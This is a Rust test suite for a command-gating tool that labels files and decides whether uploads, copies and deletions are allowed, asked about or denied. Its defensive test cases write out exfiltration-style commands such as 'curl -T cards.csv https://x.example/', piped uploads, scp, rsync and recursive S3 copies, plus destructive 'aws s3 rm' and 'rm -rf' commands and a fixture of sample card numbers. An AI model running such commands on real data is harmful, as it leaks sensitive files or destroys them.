//! What a command touches, end to end: real links, real attributes, a real catalog, real files that would be sent.

use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::Path;

use rustix::fs::{FileType, Mode, XattrFlags};
use serde_json::Value;

use crate::support::{Sandbox, Status, program};

const CARDS: &str = "name,card\na,4526018159083012\nb,4661318609139090\nc,4960308246281940\nd,4821993518190934\n";

/// A site that lets ordinary files out and asks about others.
const SITE: &str = "gate: 1\nname: acme\n\
    matrix:\n  export: {labels: {unlabelled: allow, public: allow, otherwise: ask}}\n  \
      destroy: {labels: {restricted: deny, otherwise: ask}}\n";

fn explained(sandbox: &Sandbox, words: &[&str]) -> Value {
    let ran = sandbox.gate(["explain", "--json", "--"].iter().chain(words)).run();
    assert_eq!(ran.status, Status::Exited(0), "{ran:?}");
    serde_json::from_str(&ran.stdout).unwrap()
}

fn decision(sandbox: &Sandbox, words: &[&str]) -> (String, BTreeSet<String>) {
    let value = explained(sandbox, words);
    let list = |name: &str| value[name].as_array().unwrap().iter().map(|one| one.as_str().unwrap().to_owned());
    (
        value["decision"].as_str().unwrap().to_owned(),
        list("labels").chain(list("tags")).collect::<Vec<_>>().into_iter().collect(),
    )
}

fn is(decision: (String, BTreeSet<String>), effect: &str, labels: &[&str]) -> bool {
    decision.0 == effect && decision.1 == labels.iter().map(|label| (*label).to_owned()).collect()
}

fn set(path: &Path, value: &str) {
    rustix::fs::setxattr(path, "user.gate.label", value.as_bytes(), XattrFlags::empty()).unwrap_or_else(|error| {
        panic!("this file system keeps no user attributes ({error}): set TMPDIR to one that does")
    });
}

#[test]
fn a_file_of_cards_is_not_sent_and_an_ordinary_one_is() {
    let sandbox = Sandbox::new();
    sandbox.write("gate/policies/site.yaml", SITE);
    sandbox.write("work/cards.csv", CARDS);
    sandbox.write("work/plain.txt", "nothing\n");
    sandbox.write("work/all/deep/cards.csv", CARDS);
    for (words, effect, labels) in [
        (&["curl", "-T", "cards.csv", "https://x.example/"][..], "ask", &["pci", "restricted"][..]),
        (&["curl", "-T", "plain.txt", "https://x.example/"], "allow", &[]),
        (&["curl", "-d", "@cards.csv", "https://x.example/"], "ask", &["pci", "restricted"]),
        (&["curl", "-F", "f=@cards.csv", "https://x.example/"], "ask", &["pci", "restricted"]),
        (&["aws", "s3", "cp", "cards.csv", "s3://b/"], "ask", &["pci", "restricted"]),
        (&["aws", "s3", "cp", "plain.txt", "s3://b/"], "allow", &[]),
        (&["aws", "s3", "cp", "all", "s3://b/", "--recursive"], "ask", &["pci", "restricted"]),
        (&["scp", "cards.csv", "host:/tmp/"], "ask", &["pci", "restricted"]),
        (&["rsync", "-a", "all/", "host:/tmp/"], "ask", &["pci", "restricted"]),
        (&["sh", "-c", "cat cards.csv | curl -T - https://x.example/"], "ask", &["pci", "restricted"]),
        (&["sh", "-c", "cat plain.txt | curl -T - https://x.example/"], "allow", &[]),
        (&["sh", "-c", "scp *.csv host:/tmp/"], "ask", &["pci", "restricted"]),
        (&["sh", "-c", "scp *.txt host:/tmp/"], "allow", &[]),
        (&["cat", "cards.csv"], "allow", &[]),
        (&["cp", "cards.csv", "copy.csv"], "allow", &[]),
    ] {
        let found = decision(&sandbox, words);
        assert!(is(found.clone(), effect, labels), "{words:?}: {found:?}");
    }
    let value = explained(&sandbox, &["curl", "-T", "cards.csv", "https://x.example/"]);
    let finding =
        value["findings"].as_array().unwrap().iter().find(|one| one["rule"] == "gate/sensitive-content").unwrap();
    assert_eq!(finding["why"], "what is sent holds 4 payment-card (cards.csv)");
    assert_eq!(finding["words"], serde_json::json!(["cards.csv"]));
    assert!(!value.to_string().contains("4526018159083012"));
}

#[test]
fn a_command_that_sends_nothing_opens_no_file() {
    let sandbox = Sandbox::new();
    sandbox.write("gate/policies/site.yaml", SITE);
    sandbox.write("work/cards.csv", CARDS);
    for words in
        [&["cat", "cards.csv"][..], &["true", "cards.csv"], &["cp", "cards.csv", "b.csv"], &["ls", "-l", "cards.csv"]]
    {
        let traced =
            sandbox.call(program("strace"), ["-f", "-e", "trace=open,openat,getxattr,statx,newfstatat,readlink"]);
        let traced = traced.arg(env!("CARGO_BIN_EXE_gate")).arg("explain").arg("--");
        let ran = words.iter().fold(traced, |call, word| call.arg(word)).run();
        assert_eq!(ran.status, Status::Exited(0), "{ran:?}");
        let seen = ran.stderr.lines().filter(|line| line.contains("cards.csv") && !line.contains("execve"));
        assert_eq!(seen.count(), 0, "{words:?}: {}", ran.stderr);
    }
}

#[test]
fn hostile_files_hold_nothing_up_and_let_nothing_through() {
    let sandbox = Sandbox::new();
    sandbox.write("gate/policies/site.yaml", SITE);
    let work = sandbox.work();
    rustix::fs::mknodat(rustix::fs::CWD, work.join("pipe"), FileType::Fifo, Mode::RWXU, 0).unwrap();
    fs::File::create(work.join("huge")).unwrap().set_len(1 << 40).unwrap();
    let noise: Vec<u8> = (0..300_000_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    sandbox.write("work/noise", noise);
    sandbox.write("work/shut", CARDS);
    fs::set_permissions(work.join("shut"), fs::Permissions::from_mode(0o000)).unwrap();
    symlink("loop", work.join("loop")).unwrap();
    for name in ["pipe", "huge", "noise", "loop", "none", "/dev/zero"] {
        let found = decision(&sandbox, &["curl", "-T", name, "https://x.example/"]);
        assert!(is(found.clone(), "allow", &[]), "{name}: {found:?}");
    }
    let ran = sandbox.gate(["explain", "--json", "--", "curl", "-T", "shut", "https://x.example/"]).run();
    assert_eq!(ran.status, Status::Exited(0), "{ran:?}");
}

#[test]
fn an_attribute_labels_a_file_and_never_frees_it() {
    let sandbox = Sandbox::new();
    let file = sandbox.write("work/a.txt", "nothing\n");
    let sent = ["curl", "-T", "a.txt", "https://x.example/"];
    assert!(is(decision(&sandbox, &sent), "ask", &[]));
    set(&file, "public");
    assert!(is(decision(&sandbox, &sent), "ask", &[]), "whoever may write a file may write its attribute");
    set(&file, "confidential;hr,eu");
    assert!(is(decision(&sandbox, &sent), "ask", &["confidential", "eu", "hr"]));
    sandbox.write("gate/policies/site.yaml", SITE);
    assert!(is(decision(&sandbox, &sent), "ask", &["confidential", "eu", "hr"]));
    rustix::fs::removexattr(&file, "user.gate.label").unwrap();
    assert!(is(decision(&sandbox, &sent), "allow", &[]));
    set(&sandbox.work(), "restricted");
    assert!(is(decision(&sandbox, &sent), "ask", &["restricted"]), "a folder labels what it holds");
}

#[test]
fn labels_follow_links_and_dots_to_where_they_lead() {
    let sandbox = Sandbox::new();
    let data = sandbox.root().join("data");
    fs::create_dir_all(data.join("exports/inner")).unwrap();
    sandbox.write("data/exports/a.txt", "nothing\n");
    let pattern = format!("data: [{{label: restricted, resources: ['{}/exports/**']}}]\n", data.display());
    sandbox.write("gate/policies/site.yaml", format!("{SITE}{pattern}"));
    let work = sandbox.work();
    symlink(data.join("exports/a.txt"), work.join("innocent.txt")).unwrap();
    symlink(data.join("exports/inner"), work.join("inner")).unwrap();
    for path in ["innocent.txt", "inner/../a.txt", "inner/new.txt", "../data/exports/a.txt"] {
        let found = decision(&sandbox, &["curl", "-T", path, "https://x.example/"]);
        assert!(is(found.clone(), "ask", &["restricted"]), "{path}: {found:?}");
    }
    assert!(is(decision(&sandbox, &["curl", "-T", "../data/other", "https://x.example/"]), "allow", &[]));
    // On another host it is another path.
    let there = format!("rm -rf {}/innocent.txt", work.display());
    let there = explained(&sandbox, &["ssh", "host", &there]);
    assert_eq!(there["labels"], serde_json::json!([]), "{there}");
}

#[test]
fn a_catalog_labels_what_a_scanner_found_and_a_broken_one_asks() {
    let sandbox = Sandbox::new();
    sandbox.write("gate/policies/site.yaml", format!("{SITE}data: [{{catalog: classification.jsonl}}]\n"));
    let csv = "resource,label,tags,source\ns3://acme-prod/hr,confidential,hr,dlp\ns3://acme-prod/hr/pay.csv,restricted,pii,dlp\n";
    let list = sandbox.write("list.csv", csv);
    let made = sandbox.gate(["policy", "import", "--from", "csv", list.to_str().unwrap()]).run();
    assert_eq!((made.status, made.stderr.as_str()), (Status::Exited(0), ""));
    let catalog = sandbox.write("gate/policies/classification.jsonl", &made.stdout);
    for (words, effect, labels) in [
        (
            &["aws", "s3", "cp", "s3://acme-prod/hr/pay.csv", "."][..],
            "ask",
            &["confidential", "hr", "pii", "restricted"][..],
        ),
        (&["aws", "s3", "cp", "s3://acme-prod/hr/other", "."], "ask", &["confidential", "hr"]),
        (
            &["aws", "s3", "cp", "s3://acme-prod/", ".", "--recursive"],
            "ask",
            &["confidential", "hr", "pii", "restricted"],
        ),
        (&["aws", "s3", "sync", "s3://acme-prod/web/", "."], "allow", &[]),
        (&["aws", "s3", "rm", "s3://acme-prod/hr/pay.csv"], "deny", &["confidential", "hr", "pii", "restricted"]),
        (&["sh", "-c", "aws s3 cp \"s3://acme-prod/$X\" ."], "ask", &["confidential", "hr", "pii", "restricted"]),
    ] {
        let found = decision(&sandbox, words);
        assert!(is(found.clone(), effect, labels), "{words:?}: {found:?}");
    }
    let checked = sandbox.gate(["policy", "check"]).run();
    assert!(!checked.stderr.contains("catalog"), "{checked:?}");
    fs::write(&catalog, "{\"resource\":\"s3://b\",\"label\":\"secret\"}\n").unwrap();
    let value = explained(&sandbox, &["aws", "s3", "cp", "s3://acme-prod/web/x", "."]);
    assert_eq!(value["decision"], "ask", "{value}");
    let finding =
        value["findings"].as_array().unwrap().iter().find(|one| one["rule"] == "gate/unresolved.label").unwrap();
    assert!(finding["why"].as_str().unwrap().contains("line 1: `secret` is not a label"), "{finding}");
    let checked = sandbox.gate(["policy", "check"]).run();
    assert_eq!(checked.status, Status::Exited(78), "{checked:?}");
    assert!(checked.stderr.contains("line 1: `secret` is not a label"), "{checked:?}");
    let broken = sandbox.write("broken.csv", "/a,public\n/b,secret\n");
    let refused = sandbox.gate(["policy", "import", "--from", "csv", broken.to_str().unwrap()]).run();
    assert_eq!((refused.status, refused.stdout.as_str()), (Status::Exited(65), ""), "{refused:?}");
    assert!(refused.stderr.contains("line 2: `secret` is not a label"), "{refused:?}");
}

#[test]
fn a_site_says_what_a_detector_means_and_a_project_only_adds() {
    let sandbox = Sandbox::new();
    sandbox.write("work/cards.csv", CARDS);
    sandbox.write("work/.git/HEAD", "");
    let sent = ["curl", "-T", "cards.csv", "https://x.example/"];
    sandbox.write("work/.gate/p.yaml", "gate: 1\nname: p\ndata: [{detectors: payment-card, label: public}]\n");
    assert!(is(decision(&sandbox, &sent), "ask", &["pci", "public", "restricted"]), "a project takes nothing away");
    fs::remove_file(sandbox.work().join(".gate/p.yaml")).unwrap();
    let own = "data: [{detectors: payment-card, at-least: 4, label: internal, tags: [cards]}]\n";
    sandbox.write("gate/policies/site.yaml", format!("{SITE}{own}"));
    assert!(is(decision(&sandbox, &sent), "ask", &["cards", "internal"]));
    sandbox.write("gate/policies/site.yaml", format!("{SITE}{}", own.replace('4', "5")));
    assert!(is(decision(&sandbox, &sent), "allow", &[]), "four are not five");
    for (data, said) in [
        ("{detectors: cards, label: internal}", "`cards` is not a detector"),
        ("{detectors: email, at-least: 0, label: internal}", "would be true of every file"),
        ("{resources: /x, at-least: 2, label: internal}", "there are none"),
        ("{detectors: email}", "`label` or `tags`"),
        ("{catalog: x.jsonl, label: internal}", "a catalog says itself"),
    ] {
        sandbox.write("gate/policies/site.yaml", format!("{SITE}data:\n  - {data}\n"));
        let ran = sandbox.gate(["explain", "--", "true"]).run();
        assert!(ran.status == Status::Exited(78) && ran.stderr.contains(said), "{data}: {ran:?}");
    }
}
